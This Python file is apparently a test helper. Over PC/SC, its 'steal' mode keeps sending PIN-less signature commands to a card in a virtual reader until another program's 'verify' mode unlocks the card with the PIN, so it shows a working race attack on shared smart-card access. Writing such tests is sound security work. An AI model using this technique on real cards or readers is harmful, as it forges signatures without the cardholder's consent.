# SPDX-License-Identifier: LGPL-2.1-or-later
"""A program with a connection of its own to the card in the first reader: card_thief.py steal | verify PIN.

    steal    asks for signatures without a PIN, again and again; says "at it" after the first answer and "signed" when it got one
    verify   verifies the PIN and leaves the card as it is: what the thief waits for
"""

import ctypes
import sys

SCOPE_SYSTEM, SHARE_SHARED, T1, LEAVE_CARD = 2, 2, 2, 0
SHARING_VIOLATION = 0x8010000B
READER = b"Virtual PCD 00 00"
SELECT_APPLET = bytes.fromhex("00A4040C0AD392F000260100000001")
SELECT_KEY, SELECT_PIN = bytes.fromhex("00A4020C020017"), bytes.fromhex("00A4020C020018")
# DigestInfo (RFC 8017 9.2) of a SHA-256 of zeros.
SIGN = bytes.fromhex("802A008033" "3031300D060960864801650304020105000420") + bytes(32) + b"\0"
SIGNED, NOT_VERIFIED = 0x9000, 0x6982


class IoRequest(ctypes.Structure):
    _fields_ = [("protocol", ctypes.c_ulong), ("size", ctypes.c_ulong)]


class Card:
    def __init__(self):
        self._pcsc = ctypes.CDLL("libpcsclite.so.1")
        self._handle, self._protocol, context = ctypes.c_long(), ctypes.c_ulong(), ctypes.c_long()
        self._must(self._pcsc.SCardEstablishContext(ctypes.c_ulong(SCOPE_SYSTEM), None, None, ctypes.byref(context)))
        self._must(self._pcsc.SCardConnect(context, READER, ctypes.c_ulong(SHARE_SHARED), ctypes.c_ulong(T1),
                                           ctypes.byref(self._handle), ctypes.byref(self._protocol)))
        self._answer = ctypes.create_string_buffer(1024)

    @staticmethod
    def _must(code: int) -> None:
        if code & 0xFFFFFFFF != 0:
            sys.exit(f"{code & 0xFFFFFFFF:#x}")

    def hold(self) -> None:
        while (code := self._pcsc.SCardBeginTransaction(self._handle) & 0xFFFFFFFF) == SHARING_VIOLATION:
            pass
        self._must(code)

    def give_back(self) -> None:
        self._must(self._pcsc.SCardEndTransaction(self._handle, ctypes.c_ulong(LEAVE_CARD)))

    def status_of(self, command: bytes) -> int | None:
        """The card's status word; None where somebody else has the card, or has reset it."""
        request, size = IoRequest(T1, ctypes.sizeof(IoRequest)), ctypes.c_ulong(len(self._answer))
        code = self._pcsc.SCardTransmit(self._handle, ctypes.byref(request), command, ctypes.c_ulong(len(command)), None,
                                        self._answer, ctypes.byref(size)) & 0xFFFFFFFF
        if code not in (0, SHARING_VIOLATION):  # a card that was reset, which another program may be selecting a protocol for
            self._pcsc.SCardReconnect(self._handle, ctypes.c_ulong(SHARE_SHARED), ctypes.c_ulong(T1), ctypes.c_ulong(LEAVE_CARD),
                                      ctypes.byref(self._protocol))
        if code != 0:
            return None
        return int.from_bytes(self._answer.raw[size.value - 2:size.value], "big")


def steal(card: Card) -> None:
    told = False
    while (status := card.status_of(SIGN)) != SIGNED:
        if status is not None and status != NOT_VERIFIED and card.status_of(SELECT_KEY) not in (SIGNED, None):
            card.status_of(SELECT_APPLET)
        if status == NOT_VERIFIED and not told:
            print("at it", flush=True)
            told = True
    print("signed", flush=True)


def verify(card: Card, pin: str) -> None:
    card.hold()
    for command in (SELECT_APPLET, SELECT_PIN, bytes.fromhex("00200080") + bytes([len(pin)]) + pin.encode(), SELECT_KEY):
        if (status := card.status_of(command)) != SIGNED:
            sys.exit(f"{command.hex()}: {status}")
    card.give_back()


def main() -> None:
    card = Card()
    if sys.argv[1] == "steal":
        return steal(card)
    verify(card, sys.argv[2])


if __name__ == "__main__":
    main()
